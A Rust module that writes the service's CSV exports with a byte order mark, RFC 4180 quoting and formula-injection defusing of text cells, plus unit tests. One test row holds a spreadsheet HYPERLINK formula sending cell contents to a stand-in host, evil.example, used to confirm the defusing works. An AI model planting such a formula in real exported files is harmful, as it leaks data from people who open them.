//! Every CSV file the system writes (open data, PTNT_OCOP, the audit trail) is
//! written here: a UTF-8 byte order mark, the header row, RFC 4180 quoting, and
//! every text cell defused against formula injection by
//! `domain::text::csv_cell::defuse` (a `'` before a cell beginning with `=`, `+`,
//! `-`, `@`, a tab or a carriage return).
//!
//! Numeric columns stay numeric: the caller names them (`numeric`), and their
//! cells — numbers the server formatted itself, such as `DoanhThuNam` or a score —
//! are written as they are, so a negative amount is still `-12.50`. Every other
//! column is text and is defused, whatever a future field holds.

use std::borrow::Cow;

use ocop_domain::text::csv_cell::{UTF8_BOM, defuse};
use serde::Serialize;

use crate::error::{ServiceError, ServiceResult};

fn internal(e: impl std::fmt::Display) -> ServiceError {
    ServiceError::Internal(format!("csv: {e}"))
}

/// Writes `header` and `rows` (each as long as the header); the columns named in
/// `numeric` are written as they are, every other cell is defused.
pub fn write<R, C>(header: &[&str], numeric: &[&str], rows: R) -> ServiceResult<Vec<u8>>
where
    R: IntoIterator<Item = Vec<C>>,
    C: AsRef<str>,
{
    let is_numeric: Vec<bool> = header.iter().map(|h| numeric.contains(h)).collect();
    let mut out = UTF8_BOM.to_vec();
    let mut writer = csv::Writer::from_writer(&mut out);
    writer.write_record(header).map_err(internal)?;
    for row in rows {
        if row.len() != header.len() {
            return Err(internal(format!("{} cells for {} columns", row.len(), header.len())));
        }
        let cells: Vec<Cow<'_, str>> = row
            .iter()
            .zip(&is_numeric)
            .map(|(cell, numeric)| {
                if *numeric {
                    Cow::Borrowed(cell.as_ref())
                } else {
                    defuse(cell.as_ref())
                }
            })
            .collect();
        writer
            .write_record(cells.iter().map(|cell| cell.as_bytes()))
            .map_err(internal)?;
    }
    writer.flush().map_err(internal)?;
    drop(writer);
    Ok(out)
}

/// Writes serialisable records (one CSV row each, as serde names their fields)
/// through [`write`]. `header` must be the records' field names in order — it is
/// checked, so a field added to the record without its column fails loudly — and
/// is written even when there are no records.
pub fn write_records<T: Serialize>(header: &[&str], numeric: &[&str], records: &[T]) -> ServiceResult<Vec<u8>> {
    let mut plain = csv::Writer::from_writer(Vec::new());
    for record in records {
        plain.serialize(record).map_err(internal)?;
    }
    let plain = plain.into_inner().map_err(internal)?;
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(plain.as_slice());
    let mut rows = Vec::with_capacity(records.len());
    for (i, record) in reader.records().enumerate() {
        let record = record.map_err(internal)?;
        let cells: Vec<String> = record.iter().map(str::to_owned).collect();
        if i == 0 {
            if cells != header {
                return Err(internal(format!("header {cells:?} is not {header:?}")));
            }
            continue;
        }
        rows.push(cells);
    }
    write(header, numeric, rows)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Serialize)]
    struct Row {
        name: &'static str,
        amount: String,
        note: Option<&'static str>,
    }

    fn text(bytes: Vec<u8>) -> String {
        let text = String::from_utf8(bytes).unwrap();
        text.strip_prefix('\u{feff}')
            .expect("a byte order mark first")
            .to_owned()
    }

    #[test]
    fn text_cells_are_defused_and_numeric_cells_are_not() {
        let rows = [
            Row {
                name: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                amount: "-12.50".into(),
                note: Some("-12.50"),
            },
            Row {
                name: "Nước mắm, loại 1",
                amount: "3.00".into(),
                note: None,
            },
        ];
        let csv = text(write_records(&["name", "amount", "note"], &["amount"], &rows).unwrap());
        let lines: Vec<&str> = csv.lines().collect();
        assert_eq!(lines[0], "name,amount,note");
        assert_eq!(
            lines[1],
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-12.50,'-12.50"
        );
        assert_eq!(lines[2], "\"Nước mắm, loại 1\",3.00,");
    }

    #[test]
    fn the_header_is_written_without_records_and_checked_with_them() {
        assert_eq!(
            text(write_records::<Row>(&["name", "amount", "note"], &[], &[]).unwrap()),
            "name,amount,note\n"
        );
        let row = Row {
            name: "a",
            amount: "1".into(),
            note: None,
        };
        assert!(write_records(&["name", "amount"], &[], &[row]).is_err());
        assert!(write(&["a", "b"], &[], [vec!["only one"]]).is_err());
    }
}
